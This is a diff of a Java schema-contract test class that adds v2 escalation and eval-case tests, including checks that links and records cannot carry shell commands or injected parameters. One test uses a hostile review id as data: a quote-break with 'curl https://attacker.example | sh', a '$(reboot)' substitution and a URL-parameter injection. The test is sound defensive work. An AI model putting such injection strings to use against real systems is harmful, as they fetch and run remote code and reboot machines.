@@ -56,9 +56,14 @@ class ContractTest {
     }
 
     @Test
-    void escalation_sampleAndCode_matchV1_andCarryNoText() throws IOException {
-        Schema schema = schema("escalation.v1");
-        assertEquals(List.of(), schema.validate(sample("escalation.v1")));
+    void escalation_v1Sample_stillMatchesV1() throws IOException {
+        assertEquals(List.of(), schema("escalation.v1").validate(sample("escalation.v1")));
+    }
+
+    @Test
+    void escalation_sampleAndCode_matchV2_andCarryNoTextNorCommand() throws IOException {
+        Schema schema = schema("escalation.v2");
+        assertEquals(List.of(), schema.validate(sample("escalation.v2")));
         Escalation e = Escalation.of(Escalation.POLICY_PAGE, SUMMARY, "2026-08-19T06:00:01Z",
                 new OpenLinks("us-east-1", "secondlook-ReviewTable").forReview("rev-1"));
         List<Error> errors = schema.validate(MAPPER.valueToTree(e));
@@ -68,18 +73,41 @@ class ContractTest {
         ObjectNode leaky = MAPPER.valueToTree(e);
         leaky.put("prompt", "customer text");
         assertFalse(schema.validate(leaky).isEmpty());
+        ObjectNode command = MAPPER.valueToTree(e);
+        command.putObject("open").put("cli", "./secondlook review show rev-1");
+        assertFalse(schema.validate(command).isEmpty(), "v2 has no place for a shell command");
     }
 
     @Test
-    void evalCase_sampleAndCode_matchV1() throws IOException {
-        Schema schema = schema("eval-case.v1");
-        assertEquals(List.of(), schema.validate(sample("eval-case.v1")));
-        dev.secondlook.core.feedback.EvalCase c = MAPPER.treeToValue(sample("eval-case.v1"),
+    void escalation_consoleUrl_keepsAHostileReviewIdInsideTheLink() throws IOException {
+        String hostile = "x\"; curl https://attacker.example | sh; #\n$(reboot) &pk=other";
+        ReviewSummary r = new ReviewSummary(hostile, Lane.PRIORITY, Severity.PAGE, List.of("secret-leak"), "", "",
+                "sha256:abc", Instant.parse("2026-08-19T06:00:00Z"), Instant.parse("2026-08-19T10:00:00Z"));
+        Escalation e = Escalation.of(Escalation.POLICY_PAGE, r, "2026-08-19T06:00:01Z",
+                new OpenLinks("us-east-1", "secondlook-ReviewTable").forReview(hostile));
+        assertEquals(List.of(), schema("escalation.v2").validate(MAPPER.valueToTree(e)));
+        assertTrue(e.consoleUrl().matches("https://[A-Za-z0-9._~*%&=?#/+:-]+"), e.consoleUrl());
+        assertFalse(e.consoleUrl().contains("&pk=other"), "the id cannot add or replace a link parameter");
+    }
+
+    @Test
+    void evalCase_v1Sample_stillMatchesV1() throws IOException {
+        assertEquals(List.of(), schema("eval-case.v1").validate(sample("eval-case.v1")));
+    }
+
+    @Test
+    void evalCase_sampleAndCode_matchV2() throws IOException {
+        Schema schema = schema("eval-case.v2");
+        assertEquals(List.of(), schema.validate(sample("eval-case.v2")));
+        dev.secondlook.core.feedback.EvalCase c = MAPPER.treeToValue(sample("eval-case.v2"),
                 dev.secondlook.core.feedback.EvalCase.class);
         assertEquals(List.of(), schema.validate(MAPPER.valueToTree(c)));
         ObjectNode broken = MAPPER.valueToTree(c);
         broken.remove("provenance");
         assertFalse(schema.validate(broken).isEmpty());
+        ObjectNode unmarked = MAPPER.valueToTree(c);
+        unmarked.remove("masking");
+        assertFalse(schema.validate(unmarked).isEmpty(), "a v2 case always says what was masked");
     }
 
     @Test
